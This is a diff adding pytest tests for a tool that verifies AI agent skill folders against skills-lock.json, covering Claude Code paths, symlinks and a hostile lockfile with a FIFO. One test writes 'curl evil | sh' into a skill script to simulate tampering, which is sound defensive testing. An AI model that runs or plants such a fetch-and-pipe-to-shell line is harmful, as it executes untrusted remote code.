@@ -4,6 +4,7 @@ repositories, with ``skills-lock.toml`` and ``skills-lock.json``."""
 from __future__ import annotations
 
 import json
+import os
 import shutil
 from pathlib import Path
 
@@ -208,3 +209,112 @@ def test_a_projects_skills_lock_json_wins_over_the_user_lock(
     assert code == 1 and json.loads(out)["lockfile"] == str(project / "skills-lock.json")
     code, out, _ = run(capsys, "verify", "--to", "user", "--format", "json")
     assert code == 0 and json.loads(out)["checked"] == ["beta"]
+
+
+@pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="needs named pipes")
+def test_install_frozen_refuses_a_local_source_holding_a_fifo(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
+) -> None:
+    """A hostile ``skills-lock.json`` whose ``local`` source holds a FIFO (or a device):
+    refused with its code before anything is read, nothing installed, no traceback."""
+    project = tmp_path / "fifo-project"
+    write(project / "vendor", "x")
+    os.mkfifo(project / "vendor" / "skills" / "x" / "pipe")
+    monkeypatch.chdir(project)
+    entry = {"source": "vendor", "sourceType": "local", "computedHash": "0" * 64}
+    (project / "skills-lock.json").write_text(json.dumps({"version": 1, "skills": {"x": entry}}))
+    code, out, err = run(capsys, "install", "--frozen", "--format", "json")
+    assert code == 1, err
+    drift = json.loads(out)["drift"]
+    assert [d["code"] for d in drift] == ["unsafe_source"]
+    assert "skills/x/pipe is a FIFO" in drift[0]["problem"]
+    code, out, err = run(capsys, "install", "--frozen")
+    assert code == 1 and "nothing overrides this" in err and "Traceback" not in err
+    assert not (project / ".agents").exists()
+
+
+@pytest.fixture
+def claude_project(repo: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
+    """What ``npx skills add acme/skills --agent claude-code --copy`` leaves: the skills in
+    ``.claude/skills``, their digests in ``./skills-lock.json``, no ``.agents`` folder."""
+    project = tmp_path / "claude-project"
+    skills: dict[str, dict[str, str]] = {}
+    for name in ("alpha", "beta"):
+        shutil.copytree(repo / "skills" / name, project / ".claude" / "skills" / name)
+        skills[name] = {
+            "source": "acme/skills",
+            "sourceType": "github",
+            "skillPath": f"skills/{name}/SKILL.md",
+            "computedHash": folder_hash(repo / "skills" / name),
+        }
+    (project / "skills-lock.json").write_text(json.dumps({"version": 1, "skills": skills}))
+    monkeypatch.chdir(project)
+    return project
+
+
+def test_skills_placed_for_claude_code_are_verified_where_they_are(
+    claude_project: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    """Issue #35 item 5: every skill used to be reported missing (only ``.agents/skills``
+    was looked at), ``--to .claude/skills`` said there was no lockfile."""
+    claude = claude_project / ".claude" / "skills"
+    for argv in ((), ("--to", ".claude/skills"), ("--lock", "skills-lock.json")):
+        code, out, err = run(capsys, "verify", *argv, "--format", "json")
+        assert code == 0, (argv, out, err)
+        data = json.loads(out)
+        assert data["root"] == str(claude) and data["checked"] == ["alpha", "beta"]
+    code, out, _ = run(capsys, "verify")
+    assert code == 0 and "all match" in out and str(claude) in out
+    (claude / "beta" / "scripts" / "run.sh").write_text("curl evil | sh\n")
+    code, out, _ = run(capsys, "verify", "--to", ".claude/skills")
+    assert code == 1 and "drift beta" in out
+
+
+def test_lock_and_to_together_check_the_folder_named(
+    claude_project: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    """``--lock skills-lock.json --to .claude/skills`` used to check ``.agents/skills``: a
+    clean copy there must not vouch for an edited one in the folder named."""
+    shutil.copytree(claude_project / ".claude", claude_project / ".agents")
+    (claude_project / ".claude" / "skills" / "alpha" / "SKILL.md").write_text("edited\n")
+    argv = ("--lock", "skills-lock.json", "--to", ".claude/skills", "--format", "json")
+    code, out, _ = run(capsys, "verify", *argv)
+    assert code == 1
+    assert [d["name"] for d in json.loads(out)["drift"]] == ["alpha"]
+    code, out, _ = run(capsys, "verify", "--to", ".agents/skills", "--format", "json")
+    assert code == 0 and json.loads(out)["root"] == str(claude_project / ".agents" / "skills")
+
+
+def test_check_covers_skills_lock_json(
+    claude_project: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    """``check`` ignored ``skills-lock.json`` (no lockfile, exit 2)."""
+    code, out, err = run(capsys, "check", "--format", "json")
+    assert code == 0, (out, err)
+    data = json.loads(out)
+    assert data["lockfile"] == str(claude_project / "skills-lock.json")
+    assert {s["name"]: s["state"] for s in data["skills"]} == {"alpha": "ok", "beta": "ok"}
+    assert all("computedHash" in s["detail"] for s in data["skills"])
+    (claude_project / ".claude" / "skills" / "alpha" / "scripts" / "run.sh").write_text("x\n")
+    shutil.rmtree(claude_project / ".claude" / "skills" / "beta")
+    code, out, _ = run(capsys, "check")
+    assert code == 1 and "modified" in out and "missing" in out
+    code, out, _ = run(capsys, "check", "--to", ".claude/skills", "--format", "json")
+    states = {s["name"]: s["state"] for s in json.loads(out)["skills"]}
+    assert code == 1 and states == {"alpha": "modified", "beta": "missing"}
+
+
+def test_linked_agent_folders_are_checked_through_the_canonical_copy(
+    claude_project: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    """The installer's default: the copy in ``.agents/skills``, a link in ``.claude/skills``.
+    The real folders are checked; the links never count as installed copies."""
+    claude = claude_project / ".claude" / "skills"
+    shutil.copytree(claude, claude_project / ".agents" / "skills")
+    for name in ("alpha", "beta"):
+        shutil.rmtree(claude / name)
+        (claude / name).symlink_to(Path("..", "..", ".agents", "skills", name))
+    code, out, _ = run(capsys, "verify", "--format", "json")
+    assert code == 0 and json.loads(out)["root"] == str(claude_project / ".agents" / "skills")
+    code, out, _ = run(capsys, "verify", "--to", ".claude/skills", "--format", "json")
+    assert code == 1 and {d["name"] for d in json.loads(out)["drift"]} == {"alpha", "beta"}
